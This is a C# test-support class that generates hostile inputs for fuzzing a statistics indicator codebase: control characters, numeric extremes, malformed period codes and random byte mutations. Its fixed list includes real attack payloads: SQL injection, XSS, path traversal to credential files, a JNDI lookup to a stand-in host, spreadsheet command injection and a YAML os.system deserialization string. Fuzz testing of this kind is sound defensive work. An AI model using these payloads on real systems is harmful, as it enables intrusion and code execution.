using System.Text;

namespace Indicators.TestSupport.Hostile;

/// <summary>
/// Values that break careless code: control characters, markup, injections, numbers at and past every limit, spellings
/// of periods and genders that almost parse, and the YAML and format-string specials. Shared by every generator.
/// </summary>
public static class HostileStrings
{
    public static IReadOnlyList<string> Fixed { get; } =
    [
        "", " ", "\0", "a\0b", "\t", "\r\n", "\n", "\r", "\u007f", "\u0085", "\u2028", "\u202e", "\u200b", "\ufeff", "\uffff", "\u0001\u0002\u001b[31m",
        "😀", "å ä ö Å Ä Ö", "Ｒｅｇｉｏｎ",
        "NaN", "-NaN", "nan", "Infinity", "-Infinity", "∞", "1e300", "-1e300", "1e-300", "1E+309", "1e400", "4.9e-324",
        "79228162514264337593543950336", "-79228162514264337593543950336", "79228162514264337593543950335",
        "0.00000000000000000000000000001", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649",
        "0x10", "1,5", "1.5", "1 234,5", "1.234,5", "1,234.5", "1'234.5", "١٢٣", "٫٥", "12 %", "-0", "+1", "00000001", ".5", "5.",
        "1e", "e1", "--1", "1-", "1_000", "(12)",
        "null", "NULL", "undefined", "true", "false", "~", "yes", "no", "on", "off",
        "' or '1'='1", "'; drop table observation; --", "\"", "'", "\\", "\\\\", "`", "\"\"\"",
        "<script>alert(1)</script>", "<b>fet</b><a href=\"http://example.invalid\">länk</a>", "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://example.invalid\",\"x\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\", "\\\\server\\share", "file:///etc/passwd",
        "%00", "%0d%0a", "%s%s%s%n", "{0}{1}", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "#{7*7}",
        "&a", "*a", "!!binary", "!!python/object:os.system", "---", "...", "{", "}", "[", "]", ":", "- ", "#", "|", ">", "? ",
        "2101", "0000", "9999", "2024-13", "2024-00", "2024M13", "2024K5", "2024-T4", "2024-Q0", "2024-JA", "2024-ja", "-2024",
        "20244", "2024 ", " 2024", "2024\t", "2024-01-01", "2024/01", "24", "MMXXIV",
        "T", "K", "M", "X", "t", "k", "Kvinnor", "TOTALT",
        "0022", "22", "0022 ", "00022", "9999", "0000", "SE",
    ];

    /// <summary>A fixed value, a long run, random garbage or two values joined.</summary>
    public static string Pick(Random random)
    {
        ArgumentNullException.ThrowIfNull(random);
        return random.Next(20) switch
        {
            < 14 => Fixed[random.Next(Fixed.Count)],
            < 16 => LongRun(random),
            < 18 => Garbage(random, random.Next(1, 64)),
            _ => Fixed[random.Next(Fixed.Count)] + Fixed[random.Next(Fixed.Count)],
        };
    }

    /// <summary>One character repeated 1 000 to 70 000 times (one of them a multi-byte or a control character).</summary>
    public static string LongRun(Random random)
    {
        ArgumentNullException.ThrowIfNull(random);
        var unit = new[] { "a", "9", "å", "😀", "\0", " ", "\"", ";", "," }[random.Next(9)];
        return new StringBuilder().Insert(0, unit, random.Next(1_000, 70_000)).ToString();
    }

    /// <summary>Random characters from the whole of UTF-16, lone surrogates and control characters included.</summary>
    public static string Garbage(Random random, int length)
    {
        ArgumentNullException.ThrowIfNull(random);
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = random.Next(4) switch
            {
                0 => (char)random.Next(0, 32),
                1 => (char)random.Next(0xD800, 0xE000),
                2 => (char)random.Next(32, 127),
                _ => (char)random.Next(0, 0x10000),
            };
        }

        return new string(chars);
    }

    /// <summary>Random bytes, for content that is not text at all.</summary>
    public static byte[] Bytes(Random random, int length)
    {
        ArgumentNullException.ThrowIfNull(random);
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    /// <summary>Flips, deletes and inserts a few bytes.</summary>
    public static byte[] Mutate(Random random, byte[] original, int edits)
    {
        ArgumentNullException.ThrowIfNull(random);
        ArgumentNullException.ThrowIfNull(original);
        var bytes = new List<byte>(original);
        for (var i = 0; i < edits && bytes.Count > 0; i++)
        {
            var at = random.Next(bytes.Count);
            switch (random.Next(4))
            {
                case 0:
                    bytes[at] ^= (byte)(1 << random.Next(8));
                    break;
                case 1:
                    bytes.RemoveAt(at);
                    break;
                case 2:
                    bytes.Insert(at, (byte)random.Next(256));
                    break;
                default:
                    bytes.InsertRange(at, Encoding.UTF8.GetBytes(Fixed[random.Next(Fixed.Count)]));
                    break;
            }
        }

        return [.. bytes];
    }
}
